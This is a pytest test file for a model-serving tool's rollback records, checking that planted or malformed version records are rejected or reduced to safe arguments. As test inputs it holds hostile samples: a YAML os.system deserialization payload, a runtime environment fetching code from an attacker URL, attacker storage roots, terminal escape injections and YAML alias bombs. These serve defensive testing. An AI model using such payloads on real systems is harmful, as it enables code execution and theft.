"""Records of versions: what they hold, what a rollback takes of one, and what a planted one comes to."""

import json
import shutil
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
import yaml

from longspan.errors import UserError
from longspan.serve.__main__ import main
from longspan.serve.config import BUILDER, ServeConfig, application_of, load_config
from longspan.serve.rollback import config_of_version
from longspan.serve.schema import ServeSettings
from longspan.serve.versions import FOLDER, NotAVersion, State, Version, Versions, parse_record
from longspan.storage import Store
from tests.serve.clusters import no_cluster

ROOT = Path(__file__).parents[2]
AT = "2026-11-30T10:00:00+00:00"
ENVIRONMENT = {"env_vars": {"HF_TOKEN": "hf_secret"}, "pip": ["our-package"]}


@pytest.fixture
def path(tmp_path: Path) -> Path:
    """A config file with more in it than our application, and a store with two models."""
    config = yaml.safe_load((ROOT / "serving" / "chat.yaml").read_text())
    (ours,) = config["applications"]
    ours["args"] = {"model": "runs/a/model", "storage": {"root": str(tmp_path / "store")}}
    ours["runtime_env"] = ENVIRONMENT
    # Ours need not be the first application.
    config["applications"].insert(0, {"name": "other", "import_path": "other:app"})
    path = tmp_path / "chat.yaml"
    path.write_text(yaml.safe_dump(config))
    for name in "ab":
        model = tmp_path / "store" / "runs" / name / "model"
        model.mkdir(parents=True)
        (model / "config.json").write_text("{}")
    return path


@pytest.fixture
def lines() -> list[str]:
    return []


@pytest.fixture
def versions(path: Path, lines: list[str]) -> Versions:
    return Versions(store_of(path), lines.append)


def store_of(path: Path) -> Store:
    return Store(str(path.parent / "store"))


def put(path: Path, name: str, content: Any) -> None:
    data = content if isinstance(content, bytes) else json.dumps(content).encode()
    store_of(path).write_bytes(f"{FOLDER}/{name}", data)


def record(number: int = 1, **args: Any) -> dict[str, Any]:
    """A record as somebody may plant it."""
    return {
        "format": 2,
        "number": number,
        "state": "served",
        "at": AT,
        "args": {"model": "m"} | args,
    }


def earlier(number: int = 1, **config: Any) -> bytes:
    """A record in the format of earlier releases."""
    value = {"number": number, "config": config, "state": "served", "at": AT, "restores": None}
    return yaml.safe_dump(value, sort_keys=False).encode()


def gone_back_to(
    path: Path, version: Version, *overrides: str, running: ServeSettings | None = None
) -> tuple[ServeConfig, list[str]]:
    lines: list[str] = []
    own = load_config(path, overrides)
    return config_of_version(version, own, running, overrides, lines.append), lines


def test_a_record_holds_the_arguments_and_nothing_else(path: Path, versions: Versions) -> None:
    config = load_config(path, ["replicas.max=2", "model=runs/b/model"])
    version = versions.begin(config.settings)
    versions.end(version, "served")
    text = (path.parent / "store" / FOLDER / "0001.json").read_text()
    assert json.loads(text).keys() == {"format", "number", "state", "at", "restores", "args"}
    for secret in ("hf_secret", "our-package", "other:app", "http_options", "storage"):
        assert secret not in text
    (kept,) = versions.all()
    assert kept.state == "served"
    assert kept.model == str(path.parent / "store" / "runs" / "b" / "model")
    assert kept.values == version.values
    back, said = gone_back_to(path, kept, "replicas.max=2")
    assert back.data == config.data
    assert application_of(back.data)["runtime_env"] == ENVIRONMENT
    assert said == []


def test_of_a_planted_record_only_arguments_are_taken(path: Path, versions: Versions) -> None:
    """An object in the store became a deployment: code from anywhere, with the operator's own hands."""
    model = str(path.parent / "store" / "runs" / "b" / "model")
    own = load_config(path)
    evil = {
        "proxy_location": "EveryNode",
        "http_options": {"host": "0.0.0.0", "port": 1},
        "logging_config": {"logs_dir": "/home/someone"},
        "applications": [
            {
                "name": "chat",
                "import_path": BUILDER,
                "route_prefix": "/hidden",
                "runtime_env": {
                    "working_dir": "https://attacker/code.zip",
                    "pip": ["evil-package"],
                },
                "deployments": [
                    {"name": "ChatServer", "ray_actor_options": {"runtime_env": {"pip": ["evil"]}}}
                ],
                "args": {
                    "model": model,
                    "window": 64,
                    "storage": {"root": "s3://attacker/keys"},
                    "control": {"root": "s3://attacker/keys"},
                },
            },
            {"name": "evil", "import_path": "attacker_module:app"},
        ],
    }
    put(path, "0003.yaml", earlier(3, **evil))
    back, _ = gone_back_to(path, versions.before(3))
    assert back.settings.model == model
    assert back.settings.window == 64
    assert back.settings.storage == own.settings.storage
    assert back.settings.control == own.settings.control
    for data in (back.data, own.data):
        del application_of(data)["args"]
    assert back.data == own.data


def test_a_record_of_an_earlier_release_is_read_with_one_warning(
    path: Path, versions: Versions, lines: list[str]
) -> None:
    config = load_config(path).data
    del application_of(config)["runtime_env"]
    put(path, "0001.yaml", earlier(1, **config))
    put(path, "0002.yaml", earlier(2, **config))
    assert [version.number for version in versions.all()] == [1, 2]
    assert len(lines) == 1
    assert "2 of the records were written by an earlier release" in lines[0]
    assert versions.begin(load_config(path).settings).number == 3
    back, _ = gone_back_to(path, versions.all()[0])
    assert back.data == load_config(path).data


@pytest.mark.parametrize(
    "args",
    [
        {"engine": {"worker_cls": "evil.Worker"}},
        {"engine": {"hf_overrides": {"auto_map": {"AutoModel": "evil--code"}}}},
        {"engine": {"load_format": "pt"}},
        {"engine": {"logits_processors": ["evil:Processor"]}},
        {"engine": {"trust_remote_code": True}},
        {"engine": {"tokenizer": "elsewhere/tokenizer"}},
        {"runtime_env": {"pip": ["evil"]}},
        {"replicas": {"max": "many"}},
        {"name": "a\x1b[2Jb"},
        {"model": "m\x1b]0;owned\x07"},
        {"model": ""},
        {"a\x1b[2J": 1},
    ],
)
def test_a_record_with_what_is_no_argument_is_named_and_ignored(
    path: Path, versions: Versions, lines: list[str], args: dict[str, Any]
) -> None:
    put(path, "0001.json", record(1))
    put(path, "0002.json", record(2, **args))
    assert [version.number for version in versions.all()] == [1]
    (line,) = lines
    assert "'0002.json' is not a record of a version" in line
    assert line.isprintable()
    with pytest.raises(UserError, match="there is no version 2; versions that have served: 1"):
        versions.before(2)


MERGED = b"a: &a {x: 1}\n" + b"".join(
    b"b%d: &b%d {<<: [%s]}\n" % (n, n, b", ".join([b"*b%d" % (n - 1) if n else b"*a"] * 9))
    for n in range(12)
)
REFERRED = b"a: &a [x]\n" + b"".join(
    b"b%d: &b%d [%s]\n" % (n, n, b", ".join([b"*b%d" % (n - 1) if n else b"*a"] * 9))
    for n in range(12)
)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("0002.json", b""),
        ("0002.json", b"\xff\xfe"),
        ("0002.json", b"[" * 100_000),
        ("0002.json", b'{"number": ' + b"9" * 5000 + b"}"),
        ("0002.json", b"x" * 300_000),
        ("0002.json", b"[]"),
        ("0002.json", record(3)),
        ("0002.json", record(2) | {"format": 3}),
        ("0002.json", record(2) | {"state": "good"}),
        ("0002.json", record(2) | {"at": "yesterday"}),
        ("0002.json", record(2) | {"config": {}}),
        ("0002.yaml", b"config: !!python/object/apply:os.system [touch planted]"),
        ("0002.yaml", b"config: {applications: 5}"),
        ("0002.yaml", b"config: {applications: [5, {import_path: %s}]}" % BUILDER.encode()),
        ("0002.yaml", b"- a\n- b"),
        ("0002.yaml", b"&a [*a]"),
        ("0002.yaml", MERGED),
        ("0002.yaml", REFERRED),
        ("2.json", record(2)),
        ("notes.txt", b"mine"),
        ("9999999999.json", record(2)),
        ("999999999.json", record(999_999_999)),
        ("999999999.json", b"x"),
    ],
)
def test_other_objects_are_named_and_ignored(
    path: Path, versions: Versions, lines: list[str], name: str, content: Any
) -> None:
    put(path, "0001.json", record(1))
    put(path, name, content)
    assert [version.number for version in versions.all()] == [1]
    (line,) = lines
    assert repr(name) in line
    assert line.isprintable()
    number = versions.begin(ServeSettings(model="m")).number
    assert number == (3 if name.startswith("0002") else 2), "nothing is overwritten"


def test_status_says_what_is_no_record(
    path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("longspan.serve.deploy.connected", no_cluster)
    put(path, "0001.json", record(1))
    put(path, "0002.json", b"{")
    assert main(["status", "--config", str(path)]) == 0
    shown = capsys.readouterr()
    first, *records = shown.out.splitlines()
    assert first == (
        "serving now: unknown, no cluster answers (no Ray cluster runs here); the records:"
    )
    assert [line.split() for line in records] == [["1", AT, "served", "m"]]
    assert "'0002.json' is not a record" in shown.err


@pytest.mark.parametrize(
    "model",
    [
        "s3://attacker/model",
        "/home/someone/model",
        "{root}/../outside/model",
        "{root}-other/model",
        "attacker/model",
        "../model",
        "runs/b/model",
    ],
)
def test_a_record_alone_is_not_enough_for_a_model_from_elsewhere(path: Path, model: str) -> None:
    """Of names on a hub and paths here a writer of records must not choose; the operator may."""
    model = model.format(root=path.parent / "store")
    version = parse_record(json.dumps(record(7, model=model)).encode())
    with pytest.raises(
        UserError, match=r"neither the config file .*rollback --to 7 model="
    ) as raised:
        gone_back_to(path, version)
    assert model in str(raised.value)


def test_a_model_from_elsewhere_is_taken_when_it_serves_now(path: Path) -> None:
    version = parse_record(json.dumps(record(7, model="/home/someone/model", window=64)).encode())
    running = ServeSettings(model="/home/someone/model")
    assert gone_back_to(path, version, running=running)[0].settings.window == 64


def test_a_model_from_elsewhere_is_taken_when_the_operator_names_it(path: Path) -> None:
    version = parse_record(json.dumps(record(7, model="someone/model", window=64)).encode())
    back, _ = gone_back_to(path, version, "model=someone/model")
    assert (back.settings.model, back.settings.window) == ("someone/model", 64)
    with pytest.raises(UserError, match=r"version 7 serves 'someone/model', not .*runs/b/model"):
        gone_back_to(path, version, "model=runs/b/model")


def test_a_record_asks_for_no_more_replicas_than_the_operator(path: Path) -> None:
    model = str(path.parent / "store" / "runs" / "a" / "model")
    planted = record(7, model=model, replicas={"min": 50, "max": 100, "drain": 5})
    version = parse_record(json.dumps(planted).encode())
    back, said = gone_back_to(path, version)
    assert (back.settings.replicas.min, back.settings.replicas.max) == (1, 1)
    assert back.settings.replicas.drain == 5
    assert any("replicas.max: version 7 had 100; 1 is taken" in line for line in said)
    running = ServeSettings.model_validate({"model": "m", "replicas": {"max": 4}})
    assert gone_back_to(path, version, running=running)[0].settings.replicas.max == 4
    back, _ = gone_back_to(path, version, "replicas.max=100", "replicas.min=50")
    assert (back.settings.replicas.min, back.settings.replicas.max) == (50, 100)


def test_a_rollback_says_in_what_the_version_differs_from_the_config_file(path: Path) -> None:
    model = str(path.parent / "store" / "runs" / "b" / "model")
    origins = {"allow_origins": ["https://attacker.example"]}
    version = parse_record(json.dumps(record(7, model=model, limits=origins)).encode())
    _, said = gone_back_to(path, version)
    assert said == [f"version 7: limits is {origins}, and not set in the config file"]


def test_deploys_at_once_have_numbers_of_their_own(path: Path, versions: Versions) -> None:
    settings = [ServeSettings(model=f"m{number}") for number in range(8)]
    with ThreadPoolExecutor(8) as pool:
        begun = list(pool.map(versions.begin, settings))
    assert sorted(version.number for version in begun) == list(range(1, 9))
    with ThreadPoolExecutor(8) as pool:
        list(pool.map(lambda version: versions.end(version, "served"), begun))
    kept = {version.number: version.model for version in versions.all()}
    assert kept == {version.number: version.model for version in begun}


def test_a_rollback_goes_to_the_good_version_before(versions: Versions) -> None:
    with pytest.raises(UserError, match=r"no other good version; versions that have served: none"):
        versions.before()

    def deployed(model: str, state: State, restores: int | None = None) -> None:
        versions.end(versions.begin(ServeSettings(model=model), restores), state)

    deployed("a", "served")
    deployed("b", "served")
    assert versions.before().model == "a"
    deployed("c", "failed")
    assert versions.before().model == "b"
    deployed("b", "served", 2)  # what that rollback did
    assert versions.before().model == "a"
    deployed("d", "served")
    assert versions.before().model == "b"
    deployed("b", "served", 2)  # twice back is not forth again
    assert versions.before().model == "a"
    assert versions.before(2).model == "b"
    assert [version.number for version in versions.all()] == [1, 2, 3, 4, 5, 6]
    with pytest.raises(UserError, match=r"no version 9; versions that have served: 1, 2, 4, 5, 6"):
        versions.before(9)


def test_records_need_no_model(
    path: Path, versions: Versions, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("longspan.serve.deploy.connected", no_cluster)
    shutil.rmtree(path.parent / "store" / "runs")
    versions.begin(load_config(path).settings)
    assert main(["status", "--config", str(path)]) == 0


def test_what_is_no_record_is_told_shortly() -> None:
    with pytest.raises(NotAVersion) as raised:
        parse_record(json.dumps(record(1, engine={"x" * 10_000: 1})).encode())
    assert len(str(raised.value)) <= 300
